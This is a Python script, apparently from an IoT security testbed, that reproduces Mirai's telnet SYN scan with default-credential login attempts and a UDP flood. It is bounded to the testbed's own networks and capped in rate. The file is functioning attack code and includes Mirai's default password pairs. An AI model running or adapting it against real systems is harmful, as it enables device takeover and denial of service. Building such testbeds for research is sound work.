"""The attacks, from the infected device's namespace: a telnet scan as Mirai's and a UDP flood, both bounded.

usage: attack.py scan|flood PACKETS RATE SEED

The scan follows the published source of Mirai (`mirai/bot/scanner.c`): raw SYN packets to random addresses, sequence
number = target address, one source port, port 23 nine times of ten and 2323 else; what answers is tried with pairs
of the published list. Here the addresses are drawn from the testbed's own networks, and behind the prompts there is
no shell. Prints one line of JSON: when it began and ended,
and what it sent.
"""

import ipaddress
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

import plan as plans

# Share of the scan's targets in the devices' own network, where a free address shows as ARP and not as SYN.
LAN_SHARE = 0.15
TRIES, LOGINS = 8, 60
PASSWORDS = [("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888")]
FLOOD_PAYLOAD = 512


def refuse_outside(plan):
    """Stops unless eth0 here is the infected device's: nothing is sent from any other network."""
    found = subprocess.run(["ip", "-json", "link", "show", "eth0"], capture_output=True, text=True, check=False)
    macs = [link.get("address") for link in json.loads(found.stdout or "[]")]
    outside = os.environ.get("LEGONF_TESTBED_OUTSIDE", "")
    if macs != [plan.infected.mac] or os.readlink("/proc/self/ns/net") == outside:
        raise SystemExit("attack.py runs in the testbed's infected device only")


def checksum(data):
    """The internet checksum (RFC 1071) of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, source_port, port, rng):
    """An IPv4 packet with a SYN as Mirai's."""
    window, sequence = rng.randint(1024, 65535), int(target)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 2, window, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in the header's checksum.
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, rng.randint(1, 65535), 0, 64, 6, 0)
    return header + source.packed + target.packed + tcp


def paced(packets, rate, rng):
    """Counts to `packets` at `rate` per second, each a little early or late."""
    start = time.monotonic()
    for index in range(packets):
        due = start + (index + rng.uniform(0.0, 1.0)) / rate
        time.sleep(max(0.0, due - time.monotonic()))
        yield index


class Logins(threading.Thread):
    """Tries passwords where the scan found a prompt: TRIES each, one connection at a time, LOGINS in all at most."""

    def __init__(self, rng):
        super().__init__(daemon=True)
        self.rng, self.tries, self.waiting = rng, 0, []

    def run(self):
        while self.tries < LOGINS:
            if not self.waiting:
                time.sleep(0.05)
                continue
            self.tries += 1
            try:
                self._try(self.waiting.pop(0))
            except OSError:
                pass

    def _try(self, target):
        with socket.create_connection(target, timeout=2) as connection:
            for word in self.rng.choice(PASSWORDS):
                connection.recv(256)
                connection.sendall(word.encode() + b"\r\n")
                time.sleep(self.rng.uniform(0.05, 0.2))
            connection.recv(256)


def answered(raw, source_port):
    """The addresses and ports whose SYN-ACK to `source_port` has come in."""
    while True:
        try:
            packet = raw.recv(256)
        except BlockingIOError:
            return
        header = (packet[0] & 15) * 4
        port, to, flags = *struct.unpack_from("!HH", packet, header), packet[header + 13]
        if to == source_port and flags & 0x12 == 0x12:
            yield socket.inet_ntoa(packet[12:16]), port


def draw(plan, rng):
    """A target: an address of the testbed's networks that is not the infected device's own."""
    lan, *wan = plan.targets
    while True:
        network = lan if rng.random() < LAN_SHARE else rng.choice(wan)
        target = network[rng.randrange(1, network.num_addresses - 1)]
        if str(target) != plan.infected.ipv4:
            assert any(target in allowed for allowed in plan.targets)
            return target


def scan(plan, packets, rate, rng):
    """Sends the SYNs; tries the prompts that it finds."""
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    back = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    back.setblocking(False)
    source, source_port = ipaddress.ip_address(plan.infected.ipv4), rng.randint(1024, 32767)
    ports, sent = plan.attack["telnet_ports"], 0
    logins = Logins(random.Random(rng.random()))
    logins.start()
    for _ in paced(packets, rate, rng):
        target, port = draw(plan, rng), ports[rng.random() < 0.1]
        try:
            out.sendto(syn(source, target, source_port, port, rng), (str(target), 0))
            sent += 1
        except OSError:
            pass  # No answer to ARP: nobody is there.
        for found in answered(back, source_port):
            logins.waiting += [found] * TRIES
    return {"syn": sent, "logins": logins.tries}


def flood(plan, packets, rate, rng):
    """Sends datagrams between random ports to the victim."""
    victim, sent = plan.attack["victim"], 0
    outs = []
    for _ in range(32):
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        made.bind((plan.infected.ipv4, 0))
        outs.append(made)
    for _ in paced(packets, rate, rng):
        try:
            rng.choice(outs).sendto(rng.randbytes(FLOOD_PAYLOAD), (victim, rng.randint(1024, 65535)))
            sent += 1
        except OSError:
            pass
    return {"datagrams": sent}


def main():
    """Runs one attack, within the bounds whatever the arguments."""
    kind, packets, rate, seed = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    plan = plans.load()
    refuse_outside(plan)
    bound = {"scan": plans.SCAN_PACKETS, "flood": plans.FLOOD_PACKETS}[kind]
    attack = {"scan": scan, "flood": flood}[kind]
    start = time.time_ns()
    sent = attack(plan, min(packets, bound), min(rate, plans.ATTACK_RATE), random.Random(f"{seed} {kind}"))
    print(json.dumps({"start_ns": start, "end_ns": time.time_ns(), "sent": sent}))


if __name__ == "__main__":
    main()
